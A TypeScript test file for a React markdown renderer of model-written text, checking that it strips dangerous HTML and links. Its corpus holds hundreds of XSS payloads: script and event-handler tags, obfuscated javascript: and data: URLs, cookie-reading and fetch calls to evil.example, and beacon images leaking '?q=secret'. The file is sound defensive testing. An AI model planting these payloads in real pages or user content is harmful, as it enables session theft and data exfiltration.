// A corpus of what models, or those who speak through them, may write: none of it may run, load, or lead out of the web.
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { SaidMarkdown } from './markdown.js'

const render = (text: string): string => renderToStaticMarkup(createElement(SaidMarkdown, { text }))

const scripts = ['alert(1)', "fetch('//evil.example')", 'document.cookie']
const tags = scripts.flatMap((script) => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src=x onerror=${script}//`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<body onload="${script}">`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button>go</button></form>`,
  `<button formaction="javascript:${script}">go</button>`,
  `<input autofocus onfocus="${script}">`,
  `<details open ontoggle="${script}"><summary>x</summary></details>`,
  `<video><source onerror="${script}"></video>`,
  `<audio src=x onerror="${script}"></audio>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="https://good.example" onclick="${script}">x</a>`,
  `<div style="background:url(javascript:${script})">x</div>`,
  `<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example)}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `text <b onmouseover="${script}">bold</b> text`,
  `| a |\n|---|\n| <img src=x onerror=${script}> |`,
  `- <script>${script}</script>\n- <iframe src=//evil.example>`,
  `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  `\`<img src=x onerror=${script}>\``,
  `<p id="window" class="app">${script}</p>`,
  `<x-element is="script">${script}</x-element>`,
  `<marquee onstart="${script}">x</marquee>`,
  `<isindex type=image src=1 onerror="${script}">`,
])
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'smb://evil.example/share',
  'ms-msdt:/id PCWDiagnostic',
  'blob:https://evil.example/1',
  'about:blank',
  'view-source:https://evil.example',
  'chrome://settings',
  'ws://evil.example',
  'ftp://evil.example',
  'mailto:a@evil.example',
  'tel:1',
  '//evil.example',
  '/runs',
  '#/settings',
  '?x',
  '\\\\evil.example\\share',
  'https://user:password@evil.example',
  'https:evil',
]
const links = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `[x][1]\n\n[1]: ${address}`,
  `[x][1]\n\n[1]: <${address}> "title"`,
  `<${address}>`,
])
const beacons = [
  'https://evil.example/x.png',
  'http://evil.example/?q=secret',
  '//evil.example/x',
  'data:image/png;base64,AAAA',
  '/mark.svg',
].flatMap((address) => [
  `![x](${address})`,
  `![x](<${address}> "t")`,
  `[![x](${address})](https://good.example)`,
  `![x][1]\n\n[1]: ${address}`,
  `<img src="${address}">`,
])
const corpus = [...tags, ...links, ...beacons]

const TAGS = /^(p|strong|em|del|code|pre|ul|ol|li|blockquote|a|br|hr|table|thead|tbody|tr|th|td|div|span)$/

test(`none of ${corpus.length} attacks leaves an element or an attribute behind that could act`, () => {
  expect(corpus.length).toBeGreaterThan(200)
  for (const text of corpus) {
    const html = render(text)
    for (const [, name = '', attributes = ''] of html.matchAll(/<([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
      expect(name, text).toMatch(TAGS)
      const names = [...attributes.matchAll(/([^\s=]+)="[^"]*"/g)].map((each) => each[1])
      const allowed =
        name === 'a' ? ['class', 'href', 'title', 'target', 'rel'] : name === 'div' ? ['class'] : name === 'pre' ? ['tabindex'] : []
      expect(
        names.filter((each) => !allowed.includes(each ?? '')),
        text,
      ).toEqual([])
    }
    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) {
      expect(href, text).toMatch(/^https?:\/\/(good\.example|evil)/)
      expect(href, text).not.toContain('@')
    }
  }
})

test('what a model means is still there: emphasis, code, lists, tables, links to the web', () => {
  const html = render(
    '**The cause**: `a < b`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n# Title\n\n[docs](https://docs.example/x) and https://docs.example/y',
  )
  expect(html).toContain('<strong>The cause</strong>: <code>a &lt; b</code>')
  expect(html).toContain('<li>one</li>')
  expect(html).toContain('<td>2</td>')
  expect(html).toContain('<p><strong>Title</strong></p>')
  expect(html).toContain('href="https://docs.example/x" title="https://docs.example/x" target="_blank" rel="noopener noreferrer nofollow"')
  expect(html).toContain('href="https://docs.example/y"')
  expect(html).not.toContain('<h1')
})

test('a text that never ends well is still shown as text', () => {
  expect(render('<<<<<<< FILE a.py\n```\nunclosed **bold [link](')).toContain('unclosed')
  expect(render('a'.repeat(100_000)).length).toBeGreaterThan(100_000)
})

test('in text about code, underscores and asterisks are literal', () => {
  const text = 'main(["--sep", "_"]) uses "_", and "____" is a*b*c; `x_y` and [a page](https://good.example) stay.'
  const html = renderToStaticMarkup(createElement(SaidMarkdown, { text, isOfCode: true }))
  expect(html).not.toMatch(/<(em|strong)>/)
  expect(html).toContain('a*b*c; <code>x_y</code>')
  expect(html).toContain('href="https://good.example/"')
  // Elsewhere a model may stress what it says.
  expect(render('It is *not* so.')).toContain('<em>not</em>')
})

test('words marked as code are quoted, if they can be recognised', () => {
  const text = '~~~~\nit is in words\n~~~~\n\n~~~~\nf(1)\n~~~~'
  const html = renderToStaticMarkup(createElement(SaidMarkdown, { text, isWords: (code) => code.startsWith('it') }))
  expect(html).toContain('<blockquote>it is in words')
  expect(html).toMatch(/<pre[^>]*><code>f\(1\)/)
  expect(render(text)).not.toContain('blockquote')
})
